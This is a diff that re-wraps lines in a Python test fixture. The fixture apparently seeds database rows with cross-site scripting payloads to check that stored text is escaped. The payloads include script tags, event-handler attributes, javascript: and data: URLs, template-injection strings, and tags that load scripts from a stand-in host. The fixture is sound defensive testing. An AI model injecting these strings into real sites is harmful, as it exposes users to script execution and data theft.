@@ -1,4 +1,5 @@
-"""Rows of every table whose every text is a payload: what a page, a feed, a client or a receiver could have had stored.
+"""Rows of every table whose every text is a payload: what a page, a feed, a client or a receiver could have
+had stored.
 
 The tables and columns are the schema's own: a new one is filled by itself.
 """
@@ -24,27 +25,44 @@ _AWAY = "http://192.0.2.1:9/x"
 PAYLOADS = tuple(
     f"{SEEN} {payload}"
     for payload in (
-        f"<script>{_RUN}</script>", f"\"'><script src={_AWAY}.js></script>", f"<img src={_AWAY}.png onerror={_RUN}>", f"<img src=x onerror='{_RUN}'>",
-        f"<svg onload={_RUN}><animate onbegin={_RUN} attributeName=x dur=1s></svg>", f"<svg><a xlink:href='javascript:{_RUN}'><text>x</text></a></svg>",
+        f"<script>{_RUN}</script>", f"\"'><script src={_AWAY}.js></script>",
+        f"<img src={_AWAY}.png onerror={_RUN}>", f"<img src=x onerror='{_RUN}'>",
+        f"<svg onload={_RUN}><animate onbegin={_RUN} attributeName=x dur=1s></svg>",
+        f"<svg><a xlink:href='javascript:{_RUN}'><text>x</text></a></svg>",
         f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe><iframe src='javascript:{_RUN}'></iframe>",
-        f"<details open ontoggle={_RUN}>x</details><input autofocus onfocus={_RUN}>", f"<a href='javascript:{_RUN}'>x</a><a href='data:text/html,<script>{_RUN}</script>'>x</a>",
-        f"<meta http-equiv=refresh content='0;url={_AWAY}'><base href='{_AWAY}'>", f"<link rel=stylesheet href={_AWAY}.css><style>@import '{_AWAY}.css';*{{background:url({_AWAY})}}</style>",
-        f"<img srcset='{_AWAY} 1x' style='background:url({_AWAY})'><video poster={_AWAY}><source src={_AWAY}></video>", f"<form action={_AWAY}><button formaction='javascript:{_RUN}'>x</button></form>",
-        f"{{{{constructor.constructor('{_RUN}')()}}}} ${{{_RUN}}} <%={_RUN}%> #{{{_RUN}}}", f"' onmouseover={_RUN} x='\" onmouseover={_RUN} x=\"", f"</title></textarea></script></style>--><script>{_RUN}</script>",
-        f"\u202e\u2066</b><b onclick={_RUN}>\u2069\u200f\ufeff", f"<noscript><p title=\"</noscript><img src=x onerror={_RUN}>\">", f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
-        f"&lt;script&gt;{_RUN}&lt;/script&gt;&#60;script&#62;{_RUN}&#60;/script&#62;", f"<object data='javascript:{_RUN}'></object><embed src={_AWAY}>",
+        f"<details open ontoggle={_RUN}>x</details><input autofocus onfocus={_RUN}>",
+        f"<a href='javascript:{_RUN}'>x</a><a href='data:text/html,<script>{_RUN}</script>'>x</a>",
+        f"<meta http-equiv=refresh content='0;url={_AWAY}'><base href='{_AWAY}'>",
+        f"<link rel=stylesheet href={_AWAY}.css><style>@import "
+        f"'{_AWAY}.css';*{{background:url({_AWAY})}}</style>",
+        f"<img srcset='{_AWAY} 1x' style='background:url({_AWAY})'><video poster={_AWAY}><source "
+        f"src={_AWAY}></video>", f"<form action={_AWAY}><button "
+            f"formaction='javascript:{_RUN}'>x</button></form>",
+        f"{{{{constructor.constructor('{_RUN}')()}}}} ${{{_RUN}}} <%={_RUN}%> #{{{_RUN}}}",
+        f"' onmouseover={_RUN} x='\" onmouseover={_RUN} x=\"",
+        f"</title></textarea></script></style>--><script>{_RUN}</script>",
+        f"\u202e\u2066</b><b onclick={_RUN}>\u2069\u200f\ufeff",
+        f"<noscript><p title=\"</noscript><img src=x onerror={_RUN}>\">",
+        f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
+        f"&lt;script&gt;{_RUN}&lt;/script&gt;&#60;script&#62;{_RUN}&#60;/script&#62;",
+        f"<object data='javascript:{_RUN}'></object><embed src={_AWAY}>",
     )
 )  # fmt: skip
 ADDRESSES = (
-    f"javascript:{_RUN}//https://", f"JaVa\tScRiPt:{_RUN}", f"\x01javascript:{_RUN}", f"data:text/html,<script>{_RUN}</script>", f"data:image/svg+xml,<svg onload={_RUN}/>",
-    f"vbscript:{_RUN}", f"https://e.invalid/\"><script>{_RUN}</script>", f"https://e.invalid/' onmouseover='{_RUN}", f"//192.0.2.1/{SEEN}", f"blob:{_AWAY}", f"\njavascript:{_RUN}",
+    f"javascript:{_RUN}//https://", f"JaVa\tScRiPt:{_RUN}", f"\x01javascript:{_RUN}",
+    f"data:text/html,<script>{_RUN}</script>", f"data:image/svg+xml,<svg onload={_RUN}/>",
+    f"vbscript:{_RUN}", f"https://e.invalid/\"><script>{_RUN}</script>",
+    f"https://e.invalid/' onmouseover='{_RUN}", f"//192.0.2.1/{SEEN}", f"blob:{_AWAY}",
+    f"\njavascript:{_RUN}",
     f"https://e.invalid/{SEEN}",
 )  # fmt: skip
 ROWS = 2 * len(PAYLOADS)
 _NOW = datetime.now(UTC)
 _FIXED: dict[tuple[str, str], tuple[Any, ...]] = {
-    ("submissions", "state"): ("failed", "refused", "skipped", "stored"), ("sources", "kind"): ("rss",), ("article_changes", "kind"): ("stored", "changed"),
-    ("article_links_former", "kind"): ("body", "related"), ("article_countries", "code"): ("KE", "FR", "DE"), ("article_countries", "roles"): (["about", "mentioned"],),
+    ("submissions", "state"): ("failed", "refused", "skipped", "stored"), ("sources", "kind"): ("rss",),
+    ("article_changes", "kind"): ("stored", "changed"),
+    ("article_links_former", "kind"): ("body", "related"), ("article_countries", "code"): ("KE", "FR", "DE"),
+    ("article_countries", "roles"): (["about", "mentioned"],),
     ("articles", "language"): ("en", "<b onx=1>"), ("article_localities", "country"): ("KE",),
 }  # fmt: skip
 """What a column's own check lets in; the rest holds payloads."""
